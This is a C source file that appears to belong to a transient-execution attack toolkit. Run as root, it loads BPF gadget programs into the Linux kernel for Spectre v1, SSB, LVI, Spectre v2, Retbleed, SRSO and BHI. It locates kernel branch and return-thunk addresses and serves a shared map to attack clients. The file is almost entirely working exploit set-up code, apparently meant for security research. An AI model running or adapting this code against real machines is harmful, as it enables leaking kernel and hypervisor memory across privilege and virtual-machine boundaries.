/*
 * Set-up program: code in the kernel that an attack needs. Each is a BPF program as root may load
 * it; the kernel does not harden programs of root against speculation.
 *
 *   gadgets spectre-v1 | half | ssb | lvi | lvi-guest | spectre-v2 | retbleed | srso | bhi
 *
 * Prints options for the attack, among them the socket that gives clients a mapping of the array
 * that the gadgets count in (--gadget), where the kernel has that array (--table, --known) and, for
 * branch target injection, addresses of branches (--branch) and of code that discloses what a
 * register points to (--disclosure).
 */
#include "attack.h"

#include <sys/mman.h>

#include "bpf.h"
#include "gadget.h"
#include "setup.h"

#define LENGTH(array) ((int)(sizeof(array) / sizeof((array)[0])))

static const char descriptor_socket[] = "/tmp/gadget", request_socket[] = "/tmp/gadget-requests";

enum {
	USER_RDI = 0x70,	/* in struct pt_regs */
};

static int shared;

/* Counts the byte in R0 by its halves; R1 and R2 are lost. */
#define COUNT_BYTE                                        \
	MOVE(BPF_REG_1, BPF_REG_0),                       \
	AND_IMM(BPF_REG_1, 15),                           \
	SHIFT_LEFT(BPF_REG_1, SLOT_BITS),                 \
	MAP_ADDRESS(BPF_REG_2, shared, SHARED_PROBE),     \
	ADD(BPF_REG_2, BPF_REG_1),                        \
	LOAD(BPF_B, BPF_REG_2, BPF_REG_2, 0),             \
	AND_IMM(BPF_REG_0, 0xf0),                         \
	SHIFT_LEFT(BPF_REG_0, SLOT_BITS - 4),             \
	MAP_ADDRESS(BPF_REG_2, shared, SHARED_PROBE + UPPER_HALF), \
	ADD(BPF_REG_2, BPF_REG_0),                        \
	LOAD(BPF_B, BPF_REG_2, BPF_REG_2, 0)
enum { COUNT_BYTE_LENGTH = 13 };

/* Copies the request of a packet to the stack, its value at -16, harmless at -8; or ends. */
#define READ_REQUEST                                      \
	MOVE_IMM(BPF_REG_2, 0),                           \
	MOVE(BPF_REG_3, BPF_REG_10),                      \
	ADD_IMM(BPF_REG_3, -16),                          \
	MOVE_IMM(BPF_REG_4, 16),                          \
	CALL(BPF_FUNC_skb_load_bytes),                    \
	JUMP_EQUAL_IMM(BPF_REG_0, 0, 2),                  \
	MOVE_IMM(BPF_REG_0, 0),                           \
	EXIT()

/* Reads the limit of indices to R8. */
#define READ_LIMIT                                        \
	MAP_ADDRESS(BPF_REG_8, shared, SHARED_LIMIT),     \
	LOAD(BPF_B, BPF_REG_8, BPF_REG_8, 0)

/* Counts the byte of the table at the index in R7, if the index has no bits that the limit in R8 lacks. */
#define READ_TABLE                                        \
	AND(BPF_REG_8, BPF_REG_7),                        \
	JUMP_NOT_EQUAL(BPF_REG_8, BPF_REG_7, 4 + COUNT_BYTE_LENGTH), \
	MAP_ADDRESS(BPF_REG_3, shared, SHARED_TABLE),     \
	ADD(BPF_REG_3, BPF_REG_7),                        \
	LOAD(BPF_B, BPF_REG_0, BPF_REG_3, 0),             \
	COUNT_BYTE
enum { READ_TABLE_LENGTH = 6 + COUNT_BYTE_LENGTH };

/* Reads the limit to R8 where another line says that it is: two loads that wait for each other; R1 is lost. */
#define FIND_LIMIT                                        \
	READ_LIMIT,                                       \
	AND_IMM(BPF_REG_8, 0),                            \
	MAP_ADDRESS(BPF_REG_1, shared, SHARED_FOUND_LIMIT), \
	ADD(BPF_REG_1, BPF_REG_8),                        \
	LOAD(BPF_B, BPF_REG_8, BPF_REG_1, 0)
enum { FIND_LIMIT_LENGTH = 8 };

/*
 * Counts the byte of the table at the index that user memory has where R3 points, if it is there. It may be
 * long before the code of probe_read_user is near, so the limit has to be far.
 */
#define READ_TABLE_AT_USERS_INDEX                         \
	FIND_LIMIT,                                       \
	MOVE(BPF_REG_1, BPF_REG_10),                      \
	ADD_IMM(BPF_REG_1, -16),                          \
	MOVE_IMM(BPF_REG_2, 8),                           \
	CALL(BPF_FUNC_probe_read_user),                   \
	JUMP_NOT_EQUAL_IMM(BPF_REG_0, 0, 1 + READ_TABLE_LENGTH), \
	LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, -16),         \
	READ_TABLE
enum { READ_TABLE_AT_USERS_INDEX_LENGTH = FIND_LIMIT_LENGTH + 6 + READ_TABLE_LENGTH };

/* Lets packets to a socket run a program, which ends by dropping them. */
static void attach_filter(int program)
{
	int socket = listen_at(request_socket, SOCK_DGRAM);

	checked(setsockopt(socket, SOL_SOCKET, SO_ATTACH_BPF, &program, sizeof(program)), "SO_ATTACH_BPF");
	printf(" --requests %s", request_socket);
}

static void load_spectre_v1(void)
{
	const struct bpf_insn program[] = {
		READ_REQUEST,
		LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, -16),
		READ_LIMIT,
		READ_TABLE,
		MOVE_IMM(BPF_REG_0, 0),
		EXIT(),
	};

	attach_filter(load_program(BPF_PROG_TYPE_SOCKET_FILTER, program, LENGTH(program)));
}

/*
 * A slot of the stack holds a pointer to the table. Requests that are not harmless put their value
 * there and then the pointer again; where that store goes is known late, as its address waits for
 * the shared array. In between is a store elsewhere, whose address is known a little later than the
 * load's: there always is one that the load need not wait for.
 */
static void load_ssb(void)
{
	const struct bpf_insn program[] = {
		MAP_ADDRESS(BPF_REG_8, shared, SHARED_TABLE),
		STORE(BPF_DW, BPF_REG_10, BPF_REG_8, -24),
		READ_REQUEST,
		LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, -16),
		LOAD(BPF_DW, BPF_REG_5, BPF_REG_10, -8),
		MAP_ADDRESS(BPF_REG_1, shared, SHARED_LIMIT),
		JUMP_NOT_EQUAL_IMM(BPF_REG_5, 0, 7),
		STORE(BPF_DW, BPF_REG_10, BPF_REG_7, -24),
		LOAD(BPF_DW, BPF_REG_4, BPF_REG_1, 0),
		AND_IMM(BPF_REG_4, 0),
		MOVE(BPF_REG_2, BPF_REG_10),
		ADD_IMM(BPF_REG_2, -24),
		ADD(BPF_REG_2, BPF_REG_4),
		STORE(BPF_DW, BPF_REG_2, BPF_REG_8, 0),
		/* harmless */
		LOAD(BPF_DW, BPF_REG_4, BPF_REG_10, -8),
		AND_IMM(BPF_REG_4, 0),
		MOVE(BPF_REG_2, BPF_REG_10),
		ADD_IMM(BPF_REG_2, -32),
		ADD(BPF_REG_2, BPF_REG_4),
		STORE(BPF_DW, BPF_REG_2, BPF_REG_7, 0),
		LOAD(BPF_DW, BPF_REG_3, BPF_REG_10, -24),
		LOAD(BPF_B, BPF_REG_0, BPF_REG_3, 0),
		COUNT_BYTE,
		MOVE_IMM(BPF_REG_0, 0),
		EXIT(),
	};

	attach_filter(load_program(BPF_PROG_TYPE_SOCKET_FILTER, program, LENGTH(program)));
}

/*
 * Half a gadget: where a virtual machine makes a hypercall, reads the table at the index that is its
 * first argument, and does nothing with what it reads.
 */
static void load_half(void)
{
	const struct bpf_insn program[] = {
		LOAD(BPF_DW, BPF_REG_7, BPF_REG_1, 8),
		READ_LIMIT,
		AND(BPF_REG_8, BPF_REG_7),
		JUMP_NOT_EQUAL(BPF_REG_8, BPF_REG_7, 4),
		MAP_ADDRESS(BPF_REG_3, shared, SHARED_TABLE),
		ADD(BPF_REG_3, BPF_REG_7),
		LOAD(BPF_B, BPF_REG_0, BPF_REG_3, 0),
		MOVE_IMM(BPF_REG_0, 0),
		EXIT(),
	};

	attach_tracepoint(load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, program, LENGTH(program)), "kvm_hypercall");
}

/* At the begin of getsid, reads an index where the caller's first argument points, and the table. */
static void load_lvi(void)
{
	const struct bpf_insn program[] = {
		LOAD(BPF_DW, BPF_REG_2, BPF_REG_1, 8),
		JUMP_NOT_EQUAL_IMM(BPF_REG_2, LVI_CALL, 7 + READ_TABLE_AT_USERS_INDEX_LENGTH),
		LOAD(BPF_DW, BPF_REG_3, BPF_REG_1, 0),
		ADD_IMM(BPF_REG_3, USER_RDI),
		MOVE(BPF_REG_1, BPF_REG_10),
		ADD_IMM(BPF_REG_1, -8),
		MOVE_IMM(BPF_REG_2, 8),
		CALL(BPF_FUNC_probe_read_kernel),
		LOAD(BPF_DW, BPF_REG_3, BPF_REG_10, -8),
		READ_TABLE_AT_USERS_INDEX,
		MOVE_IMM(BPF_REG_0, 0),
		EXIT(),
	};

	attach_tracepoint(load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, program, LENGTH(program)), "sys_enter");
}

/* The same where a virtual machine makes a hypercall, whose first argument points into its monitor's memory. */
static void load_lvi_of_guests(void)
{
	const struct bpf_insn program[] = {
		LOAD(BPF_DW, BPF_REG_3, BPF_REG_1, 8),
		READ_TABLE_AT_USERS_INDEX,
		MOVE_IMM(BPF_REG_0, 0),
		EXIT(),
	};

	attach_tracepoint(load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, program, LENGTH(program)), "kvm_hypercall");
}

/*
 * Code that counts the byte where a register points. Programs make it up to read the table; it is
 * not called, the branch that is sent there has the register point elsewhere.
 */
static void load_disclosures(void)
{
	/* Registers that hold what the caller of a system call gave: their number in BPF and in x86. */
	static const struct {
		int bpf, x86;
	} registers[] = {
		{ BPF_REG_7, 13 }, { BPF_REG_9, 15 }, { BPF_REG_8, 14 }, { BPF_REG_6, 3 }, { BPF_REG_3, 2 },
	};

	for (int i = 0; i < LENGTH(registers); i++) {
		const struct bpf_insn program[] = {
			MAP_ADDRESS(registers[i].bpf, shared, SHARED_TABLE),
			LOAD(BPF_B, BPF_REG_0, registers[i].bpf, 0),
			COUNT_BYTE,
			MOVE_IMM(BPF_REG_0, 0),
			EXIT(),
		};
		/* movzx rax, byte [register + 0] */
		const uint8_t load[] = {
			0x48 | registers[i].x86 >> 3, 0x0f, 0xb6, 0x40 | (registers[i].x86 & 7), 0,
		};
		static uint8_t code[1024];
		uint32_t bytes;
		uint64_t address = program_code(
			load_program(BPF_PROG_TYPE_SOCKET_FILTER, program, LENGTH(program)), code, sizeof(code), &bytes);
		const uint8_t *found = memmem(code, bytes, load, sizeof(load));

		if (!found)
			errx(1, "expected the compiled program to load by register %d", registers[i].x86);
		printf(" --disclosure %#lx", address + (found - code));
	}
}

/*
 * Ends of instructions in functions of the kernel: indirect calls and jumps, or returns. Either may
 * have been patched to be jumps to thunks, all of which lie together.
 */
static void print_branches(int count, const char *const *functions, int returns)
{
	static const char *const thunks[] = {
		"__x86_indirect_thunk_array", "__indirect_thunk_start", "__indirect_thunk_end",
	};
	static uint8_t code[1 << 14];
	uint64_t starts[8], ends[8], thunk[3], thunk_end[3];

	kernel_symbols(count, functions, starts, ends);
	kernel_symbols(3, thunks, thunk, thunk_end);
	for (int i = 0; i < count; i++) {
		int size = ends[i] - starts[i] < sizeof(code) ? ends[i] - starts[i] : sizeof(code);

		read_kernel(starts[i], code, size);
		for (int at = 0; at + 5 <= size; at++) {
			const uint8_t *bytes = code + at;
			int32_t distance;
			uint64_t target;
			int length = 0, indirect, thunked;

			memcpy(&distance, bytes + 1, sizeof(distance));
			target = starts[i] + at + 5 + distance;
			indirect = target - thunk[0] < thunk_end[0] - thunk[0];
			thunked = target - thunk[1] < thunk[2] - thunk[1];
			if (returns) {
				/* Five bytes that jump to the thunk, or a return and padding in their place. */
				if (!memcmp(bytes, "\xc3\xcc\xcc\xcc\xcc", 5))
					length = 1;
				else if (bytes[0] == 0xe9 && thunked && !indirect)
					length = 5;
			} else if (bytes[0] == 0xff && ((bytes[1] & 0xf8) == 0xd0 || (bytes[1] & 0xf8) == 0xe0)) {
				/* Calls and jumps by a register. */
				length = 2;
			} else if ((bytes[0] == 0xe8 || bytes[0] == 0xe9) && thunked) {
				length = 5;
			}
			if (length)
				printf(" --branch %#lx", starts[i] + at + length - 1);
		}
	}
}

/*
 * Two programs that the same call in bpf_trace_run2 reaches. At task_rename the second argument is a
 * name, of which the program reads eight bytes and counts the first; at sys_exit it is what the
 * system call returns, and the program does nothing.
 */
static void load_bhi(void)
{
	const struct bpf_insn name_counter[] = {
		LOAD(BPF_DW, BPF_REG_3, BPF_REG_1, 8),
		MOVE(BPF_REG_1, BPF_REG_10),
		ADD_IMM(BPF_REG_1, -8),
		MOVE_IMM(BPF_REG_2, 8),
		CALL(BPF_FUNC_probe_read_kernel),
		LOAD(BPF_B, BPF_REG_0, BPF_REG_10, -8),
		COUNT_BYTE,
		MOVE_IMM(BPF_REG_0, 0),
		EXIT(),
	};
	const struct bpf_insn nothing[] = {
		MOVE_IMM(BPF_REG_0, 0),
		EXIT(),
	};

	attach_tracepoint(
		load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, name_counter, LENGTH(name_counter)), "task_rename");
	attach_tracepoint(load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, nothing, LENGTH(nothing)), "sys_exit");
}

/* Passes the array's descriptor, read-only, to everybody who connects. */
static void serve(int socket, int fd)
{
	for (;;) {
		int client = accept(socket, NULL, NULL);

		send_descriptor(client, fd);
		close(client);
	}
}

int main(int argc, char **argv)
{
	static const char *const ioctl_functions[] = { "__x64_sys_ioctl" };
	static const char *const trace_functions[] = { "bpf_trace_run2" };
	static const char *const receive_functions[] = { "sock_recvmsg", "inet_recvmsg", "tcp_recvmsg", "tcp_recvmsg_locked" };
	/* Runs for the acknowledgement that receiving sends, not for data: most of the return stack is in use there. */
	static const char *const deepest_functions[] = { "tcp_rate_gen" };
	static const char *const operations[] = { "pipefifo_fops" };
	const char *attack = argc == 2 ? argv[1] : "";
	uint64_t address, end;
	uint8_t *value;
	int socket;

	shared = create_map(SHARED_BYTES);
	address = map_address(shared);
	value = mmap(NULL, SHARED_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, shared, 0);
	if (value == MAP_FAILED)
		err(1, "mmap");
	memset(value, 0, SHARED_BYTES);
	value[SHARED_LIMIT] = HIGHEST_INDEX;
	value[SHARED_FOUND_LIMIT] = HIGHEST_INDEX;
	value[SHARED_KNOWN] = KNOWN_BYTE;
	munmap(value, SHARED_BYTES);

	socket = listen_at(descriptor_socket, SOCK_STREAM);
	printf("--gadget %s --table %#lx --known %#lx", descriptor_socket, address + SHARED_TABLE, address + SHARED_KNOWN);
	if (!strcmp(attack, "spectre-v1")) {
		load_spectre_v1();
	} else if (!strcmp(attack, "half")) {
		load_half();
	} else if (!strcmp(attack, "ssb")) {
		load_ssb();
	} else if (!strcmp(attack, "lvi")) {
		load_lvi();
	} else if (!strcmp(attack, "lvi-guest")) {
		load_lvi_of_guests();
	} else if (!strcmp(attack, "spectre-v2")) {
		load_disclosures();
		print_branches(1, ioctl_functions, 0);
		kernel_symbols(1, operations, &address, &end);
		printf(" --slow %#lx", address);
	} else if (!strcmp(attack, "retbleed")) {
		load_disclosures();
		print_branches(LENGTH(receive_functions), receive_functions, 1);
	} else if (!strcmp(attack, "srso")) {
		load_disclosures();
		print_branches(1, deepest_functions, 1);
	} else if (!strcmp(attack, "bhi")) {
		load_bhi();
		print_branches(1, trace_functions, 0);
	} else {
		errx(2, "usage: gadgets spectre-v1 | half | ssb | lvi | lvi-guest | spectre-v2 | retbleed | srso | bhi");
	}
	to_background();
	serve(socket, shared);
}
